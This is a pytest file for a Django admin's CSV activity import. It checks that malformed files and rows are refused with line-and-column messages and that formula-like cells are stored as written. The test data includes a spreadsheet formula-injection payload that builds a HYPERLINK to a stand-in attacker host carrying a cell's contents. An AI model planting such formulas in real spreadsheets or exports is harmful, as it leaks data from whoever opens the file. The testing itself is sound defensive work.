"""The activity import (accounts_app/imports/activities.py) fed malformed files through the
admin's upload, preview and confirmation, as the account import is (test_csv_accounts.py): each
file is refused as a whole with what to do, or its bad rows are named by line and column and
nothing of it is imported until ops choose; what is imported is stored as written."""

import pytest

from accounts_app.models import Activity, ImportState
from tests.bad_input.conftest import corpus
from tests.factories import AccountFactory

pytestmark = pytest.mark.django_db

NOTHING = "Nothing was imported from this file."


@pytest.fixture
def globex(db):
    return AccountFactory(name="Globex", domain="globex.example")


@pytest.mark.parametrize("name", ["shift_jis.csv", "binary_garbage.bin", "latin1_c1_controls.csv"])
def test_a_file_in_an_encoding_accord_does_not_read_is_refused(ops, upload_activities, name):
    page = upload_activities(ops, corpus(name), name=name)

    assert page.context["csv_import"].state == ImportState.FAILED
    text = page.content.decode()
    assert "Save the file as UTF-8 CSV" in text
    assert NOTHING in text
    assert not Activity.objects.exists()


def test_a_file_of_accounts_on_the_activities_page_is_refused_by_its_columns(
    ops, upload_activities
):
    page = upload_activities(ops, corpus("formulas.csv"))

    assert page.context["csv_import"].state == ImportState.FAILED
    text = page.content.decode()
    assert "line 1: unknown columns &#x27;name&#x27;, &#x27;industry&#x27;" in text
    assert "The columns are: account, account_key, domain, contact_email, kind, side" in text
    assert NOTHING in text


def test_odd_cells_are_refused_by_line_and_column_and_formulas_stored_as_written(
    ops, upload_activities, confirm_activities, globex
):
    preview = upload_activities(ops, corpus("activities_odd_cells.csv"))

    not_an_id = (
        "is not an account id: give the account's number in Accord (a whole number), or name "
        "it in account_key or domain instead."
    )
    assert preview.context["error_lines"] == [
        f"line 4, column account: '-5' {not_an_id}",
        f"line 5, column account: '1e3' {not_an_id}",
        f"line 6, column account: '١٢' {not_an_id}",
        f"line 7, column account: '99999999999999999999' {not_an_id}",
        "line 8, column account_key: There is no such account.",
        "line 9, column occurred_at: '2026-11-30T10:00:00Z then' is not a date and time; write "
        "it as ISO 8601, e.g. 2026-11-30T14:05:00Z, 2026-11-30 14:05 (read in UTC) or "
        "2026-11-30.",
        "line 10, column external_id: Use 1 to 100 visible ASCII characters.",
        "line 11, column external_id: Use 1 to 100 visible ASCII characters.",
        "line 12, column external_id: Use 1 to 100 visible ASCII characters.",
        "line 14, column external_id: f-1 is already on line 2 of this file; each activity may "
        "appear only once.",
    ]
    refused = confirm_activities(ops, preview)
    assert refused.status_code == 400
    assert not Activity.objects.exists()

    confirm_activities(ops, preview, valid_rows_only=True)

    assert sorted(Activity.objects.values_list("subject", "kind", "side")) == [
        ("+1+1", "email_click", "marketing"),
        ('=HYPERLINK("http://evil.example/?x="&A1;"Click")', "web_visit", "marketing"),
        ("@SUM(A1:A9)", "web_visit", "marketing"),
    ]
